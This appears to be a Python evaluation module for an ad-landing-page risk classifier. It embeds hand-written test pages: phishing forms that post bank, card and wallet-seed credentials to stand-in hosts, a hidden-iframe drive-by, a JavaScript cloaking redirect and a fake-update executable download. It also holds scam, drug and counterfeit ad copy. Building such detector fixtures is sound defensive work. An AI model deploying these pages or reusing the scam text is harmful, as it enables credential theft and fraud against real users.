"""The pages `adrisk pages eval` sends (evaluation/page_eval.py): every page of a built corpus as HTML
alone (and with its URL, where the corpus knows it), plus hand-written positives: phishing/cloaking
pages (SYNTHETIC_POSITIVES) and content-violation pages (CONTENT_POSITIVES). They are this project's
own, like the pages under tests/, and the only positives here: a precision against them is indicative
only. Also the outcome of one page, as either runner reports it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from evaluation.page_corpus import VARIANTS, read_manifest

HTML_ONLY = "html"
WITH_URL = "url+html"

# Hand-written phishing/cloaking pages (this project's own, like the ones under tests/): the only
# positives available here, so any precision computed with them is indicative only.
SYNTHETIC_POSITIVES: dict[str, tuple[str, str]] = {
    "bank-credential-harvest": ("https://northgate-bank-secure.example.top/login", """<!doctype html>
<html><head><title>Northgate Bank | Online Banking Sign In</title></head><body>
<h1>Online Banking</h1>
<p>Unusual activity was detected. Verify your account within 24 hours or it will be suspended.</p>
<form action="https://verify-session-gate.example.ru/gate.php" method="post">
<label for="u">Customer ID</label><input id="u" name="customer_id">
<label for="p">Password</label><input id="p" type="password" name="pass">
<label for="c">Card number</label><input id="c" name="cardnumber" autocomplete="cc-number">
<label for="v">CVV</label><input id="v" name="cvv"><button>Continue</button></form></body></html>"""),
    "wallet-seed-phrase": ("https://wallet-restore-sync.example.app/", """<!doctype html>
<html><head><title>Restore your wallet</title></head><body><h1>Wallet synchronisation</h1>
<p>Your wallet needs to be validated. Enter your secret recovery phrase to continue.</p>
<form action="https://api-node-sync.example.xyz/submit" method="post">
<label for="s">Secret recovery phrase</label><textarea id="s" name="mnemonic" rows="3"></textarea>
<button>Validate</button></form></body></html>"""),
    "paypal-kit-relative-post": ("http://paypal.com-account-security.example.xyz/signin/", """<!doctype html>
<html><head><title>PayPal: Log in to your account</title></head><body><h1>PayPal</h1>
<p>Your account has been limited. Confirm your identity.</p>
<form action="next.php" method="post"><input name="login_email" placeholder="Email">
<input type="password" name="login_password" placeholder="Password"><button>Log In</button></form>
</body></html>"""),
    "microsoft-cross-domain": ("https://office365-docs-share.example.web.app/", """<!doctype html>
<html><head><title>Sign in to your Microsoft account</title></head><body><h1>Microsoft</h1>
<p>A document was shared with you. Sign in to view it.</p>
<form action="https://forms-collect.example.net/f/8f3k2" method="post">
<input type="email" name="loginfmt" placeholder="Email, phone, or Skype">
<input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form></body></html>"""),
    "hidden-iframe-drive-by": ("https://free-movie-stream.example.click/", """<!doctype html>
<html><head><title>Watch free movies online</title></head><body><h1>Stream now</h1>
<iframe src="http://203.0.113.7/ek/land.php?id=77" width="1" height="1" style="visibility:hidden"></iframe>
<iframe src="http://cdn-update-check.example.biz/gate" style="display:none"></iframe>
<p>Loading player...</p></body></html>"""),
    "js-redirect-cloak": ("https://healthy-recipes-daily.example.com/", """<!doctype html>
<html><head><title>Healthy recipes</title>
<script>if (!navigator.webdriver && document.referrer.indexOf("google") < 0) {
  window.location.replace("https://lucky-prize-winner.example.click/claim?src=ad"); }</script></head>
<body><h1>Ten quick salads</h1><p>Fresh ideas for every day.</p></body></html>"""),
    "fake-update-download": ("https://browser-update-center.example.top/", """<!doctype html>
<html><head><title>Critical browser update</title>
<meta http-equiv="refresh" content="3; url=https://dl-mirror.example.ru/ChromeUpdate.exe"></head>
<body><h1>Your browser is out of date</h1><p>Act now: install the update immediately.</p>
<a href="https://dl-mirror.example.ru/ChromeUpdate.exe" download>Download update</a></body></html>"""),
}


# Hand-written content-violation landing pages (not phishing): the page text is the only evidence of
# the violation, so they show what holding page text to "one band weaker" (configs/page_signals.yaml
# model_evidence) costs when a page is sent without its ad.
CONTENT_POSITIVES: dict[str, tuple[str, str]] = {
    "crypto-giveaway": ("https://btc-double-event.example.top/", """<!doctype html><html><head>
<title>Official Bitcoin Giveaway - Double Your BTC Today</title></head><body><h1>5,000 BTC Giveaway Event</h1>
<p>To celebrate our launch we are giving away 5,000 BTC to the community. Send any amount between 0.1 BTC
and 20 BTC to the address below and we will immediately send back double the amount to the address you sent from.</p>
<p>Send 0.5 BTC, get 1 BTC back. Send 1 BTC, get 2 BTC back. Guaranteed returns, no risk, instant payout.</p>
<p>Wallet address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</p>
<p>Only the first 1,000 participants qualify. Hurry, the event ends when the remaining balance runs out.</p>
</body></html>"""),
    "miracle-weight-loss": ("https://slim-keto-burn.example.com/", """<!doctype html><html><head>
<title>Lose 30 Pounds in 30 Days Without Diet or Exercise</title></head><body>
<h1>The miracle pill doctors don't want you to know about</h1>
<p>This one weird trick melts belly fat overnight. Thousands of women have lost 30 pounds in just 30 days
without changing what they eat and without any exercise. Clinically proven, 100% guaranteed results.</p>
<p>Our formula cures diabetes, reverses aging and burns fat while you sleep. Doctors hate it.</p>
<p>Order now and get 3 bottles free. Results guaranteed or your money back.</p></body></html>"""),
    "celebrity-endorsement": ("https://daily-finance-news.example.click/article", """<!doctype html><html><head>
<title>Famous billionaire reveals the investment that made him rich - as seen on the news</title></head><body>
<h1>Celebrity endorses new crypto trading robot live on national TV</h1>
<p>In a stunning interview the famous celebrity revealed the automated trading platform that turns $250 into
$10,000 in a week. The presenter tried to stop him, but he kept talking. The video was removed hours later.</p>
<p>Sign up today with a deposit of $250 and let the robot trade for you. Thousands of ordinary people are already
earning $1,000 a day.</p></body></html>"""),
    "online-pharmacy": ("https://cheap-meds-now.example.top/", """<!doctype html><html><head>
<title>Buy Oxycodone and Xanax Online - No Prescription Needed</title></head><body>
<h1>Order painkillers online without a prescription</h1>
<p>Buy oxycodone, xanax, valium and tramadol online with no prescription and no doctor visit. Discreet
worldwide shipping, overnight delivery.</p><p>Cheapest prices, pay with bitcoin.</p></body></html>"""),
    "replica-bags": ("https://luxury-replica-outlet.example.shop/", """<!doctype html><html><head>
<title>Replica Designer Handbags - Perfect Copies 90% Off</title></head><body>
<h1>Top quality replica luxury bags</h1><p>Replica designer handbags, perfect 1:1 copies of luxury brands at
90% off. Fake watches and counterfeit sneakers indistinguishable from the original.</p></body></html>"""),
    "adult-dating": ("https://hot-singles-tonight.example.xyz/", """<!doctype html><html><head>
<title>Hot singles near you want to meet tonight</title></head><body>
<h1>Explicit adult chat - adults only</h1><p>Nude photos and sexual videos of hot singles in your area.
Sign up free for explicit adult chat and hookups tonight.</p></body></html>"""),
}

@dataclass
class PageCase:
    id: str  # manifest id, or "synthetic:<name>"
    kind: str
    variant: str
    mode: str  # html | url+html
    source: str
    request: dict[str, Any]


@dataclass
class PageOutcome:
    case: PageCase
    ok: bool
    action: str = ""
    categories: list[str] = field(default_factory=list)
    scores: dict[str, float] = field(default_factory=dict)
    evidence: list[dict[str, Any]] = field(default_factory=list)
    error: str = ""

    def signals(self) -> dict[str, float]:
        out: dict[str, float] = {}
        for e in self.evidence:
            src = str(e["source"])
            if src.startswith("landing_page:"):
                name = src.split(":", 1)[1]
                out[name] = max(out.get(name, 0.0), float(e["score"]))
        return out


def _request(html: str, url: str | None) -> dict[str, Any]:
    page = {"html": html, **({"url": url} if url else {})}
    return {"landing_page": page, "options": {"record": False, "summary": "none"}}


def corpus_cases(corpus: Path, with_url: bool = False, variants: tuple[str, ...] = VARIANTS,
                 limit: int | None = None) -> list[PageCase]:
    entries = [e for e in read_manifest(corpus) if e["variant"] in variants]
    if limit is not None:
        entries = entries[:limit]
    cases = []
    for e in entries:
        html = (corpus / e["file"]).read_text(encoding="utf-8", errors="replace")
        cases.append(PageCase(e["id"], e["kind"], e["variant"], HTML_ONLY, e["source"], _request(html, None)))
        if with_url and e.get("url"):
            cases.append(PageCase(e["id"], e["kind"], e["variant"], WITH_URL, e["source"], _request(html, e["url"])))
    return cases


def _hand_written(pages: dict[str, tuple[str, str]], prefix: str, kind: str, variant: str) -> list[PageCase]:
    """Each hand-written page as HTML alone, then with its URL."""
    return [PageCase(f"{prefix}:{name}", kind, variant, mode, "evaluation.page_cases", _request(html, page_url))
            for name, (url, html) in pages.items() for mode, page_url in ((HTML_ONLY, None), (WITH_URL, url))]


def synthetic_cases() -> list[PageCase]:
    return _hand_written(SYNTHETIC_POSITIVES, "synthetic", "phishing", "synthetic_positive")


def content_cases() -> list[PageCase]:
    return _hand_written(CONTENT_POSITIVES, "content", "content", "content_positive")
